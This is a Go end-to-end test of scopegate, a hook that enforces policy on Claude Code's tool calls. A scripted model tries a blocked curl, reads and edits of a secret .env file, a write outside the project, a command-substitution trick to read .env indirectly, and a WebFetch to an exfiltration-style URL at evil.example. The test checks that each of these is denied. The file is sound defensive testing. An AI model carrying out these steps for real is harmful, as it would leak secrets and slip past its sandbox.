package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/scopegate/scopegate/audit"
	"github.com/scopegate/scopegate/internal/npmclient"
	"github.com/scopegate/scopegate/policy"
)

// secretCanary is the content of the project's .env, which the coding
// profile denies: it must never reach the model.
const secretCanary = "SCOPEGATE-E2E-CANARY-7f3a91"

// TestClaudeCodeHooks drives the real Claude Code (`claude -p`) against a
// scripted model on loopback, with scopegate as its PreToolUse hook, once as
// a command hook and once as an HTTP hook of a running serve. What Claude
// Code sent back to the model (its tool results) shows what really ran.
func TestClaudeCodeHooks(t *testing.T) {
	claude := npmclient.Bin(t, "claude")
	for _, mode := range []string{"command", "http"} {
		t.Run(mode, func(t *testing.T) { runClaudeCodeHooks(t, claude, mode) })
	}
}

func runClaudeCodeHooks(t *testing.T, claude, mode string) {
	root := t.TempDir()
	w := &workspace{t: t, root: root, sessions: filepath.Join(root, "sessions"), cfg: filepath.Join(root, "config"),
		proj: filepath.Join(root, "proj")}
	for _, d := range []string{w.proj, filepath.Join(root, "home"), filepath.Join(root, "claude")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(name, content string) {
		if err := os.WriteFile(filepath.Join(w.proj, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("a.txt", "hello from a.txt\n")
	write(".env", "KEY="+secretCanary+"\n")
	write("list.txt", ".env\n")
	if out, err := exec.Command("git", "-C", w.proj, "init", "-q").CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}

	script := []toolStep{
		{"Bash", map[string]any{"command": "printf 'out-%s\\n' confined; exit 3", "description": "print and fail"}},
		{"Bash", map[string]any{"command": "curl http://example.invalid/x", "description": "fetch"}},
		{"Read", map[string]any{"file_path": filepath.Join(w.proj, ".env")}},
		{"Write", map[string]any{"file_path": filepath.Join(root, "outside.txt"), "content": "x"}},
		{"Edit", map[string]any{"file_path": filepath.Join(w.proj, ".env"), "old_string": "KEY", "new_string": "y"}},
		{"Bash", map[string]any{"command": "cat $(sort list.txt)", "description": "indirect read"}},
		{"Read", map[string]any{"file_path": filepath.Join(w.proj, "a.txt")}},
		{"WebFetch", map[string]any{"url": "https://evil.example/collect?d=x", "prompt": "summarize the page"}},
	}
	model := newMockAnthropic(t, script)

	hook := map[string]any{"type": "command", "timeout": 60,
		"command": policy.ShellQuote(scopegateBin) + " --sessions-dir " + policy.ShellQuote(w.sessions) + " --config-dir " + policy.ShellQuote(w.cfg) +
			" --roam-dir " + policy.ShellQuote(filepath.Join(root, "roam")) + " hook claude-code"}
	if mode == "http" {
		s := startServe(t, w)
		hook = map[string]any{"type": "http", "url": s.url + "/v1/hooks/claude-code", "timeout": 60,
			"headers": map[string]string{"X-Scopegate-Project-Dir": "$PWD"}, "allowedEnvVars": []string{"PWD"}}
	}
	runClaude(t, claude, root, w.proj, model, hook)

	// 0: an allowed Bash ran through scopegate exec: its output and its exit
	// status came back.
	r := model.result(0)
	if !strings.Contains(r.content, "out-confined") || !r.isError || !strings.Contains(r.content, "3") {
		t.Errorf("allowed Bash: tool result %+v, want its output and exit status 3", r)
	}
	// 1–4: denials carry scopegate's reason.
	for i, want := range map[int]string{1: "curl is not in shell_commands.allow", 2: "is denied by paths.deny",
		3: "paths.write", 4: "is denied by paths.deny"} {
		if r := model.result(i); !strings.Contains(r.content, want) {
			t.Errorf("step %d (%s): tool result %q, want scopegate's reason %q", i, script[i].name, r.content, want)
		}
	}
	// 5: the value known only at run time is refused at run time.
	if r := model.result(5); !strings.Contains(r.content, "scopegate: denied") || !strings.Contains(r.content, ".env") {
		t.Errorf("run-time escape: tool result %q, want a run-time refusal naming .env", r.content)
	}
	// 6: an allowed Read is performed by Claude Code itself.
	if r := model.result(6); !strings.Contains(r.content, "hello from a.txt") {
		t.Errorf("allowed Read: tool result %q", r.content)
	}
	// 7: a WebFetch of a host outside the scope's network is denied by the
	// hook, with the widening that would allow it.
	if r := model.result(7); !strings.Contains(r.content, "evil.example:443, which is not in network") || !strings.Contains(r.content, "--allow-host evil.example") {
		t.Errorf("WebFetch of a denied host: tool result %q, want scopegate's network denial and hint", r.content)
	}
	if model.sawAnywhere(secretCanary) {
		t.Error("the denied file's content reached the model")
	}

	// tools.org: one hook entry per tool call, and one exec entry with a
	// result for each allowed Bash.
	ids, err := filepath.Glob(filepath.Join(w.sessions, "*", "branches", "main", "tools.org"))
	if err != nil || len(ids) != 1 {
		t.Fatalf("want exactly one session made by the hook, found tools.org files %v", ids)
	}
	entries, err := audit.ReadFile(ids[0], audit.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	var hooks, execs int
	for _, e := range entries {
		switch e.Mode {
		case audit.ModeHook:
			hooks++
			if e.AgentTool == "" {
				t.Errorf("hook entry %s has no agent tool", e.CallID)
			}
		case audit.ModeExec:
			execs++
			if e.ExitCode == nil || (*e.ExitCode != 3 && *e.ExitCode != 126) {
				t.Errorf("exec entry %s: exit code %v, want 3 or 126", e.CallID, e.ExitCode)
			}
		default:
			t.Errorf("entry %s has mode %q", e.CallID, e.Mode)
		}
	}
	if hooks != len(script) || execs != 2 {
		t.Errorf("tools.org has %d hook and %d exec entries, want %d and 2", hooks, execs, len(script))
	}
}
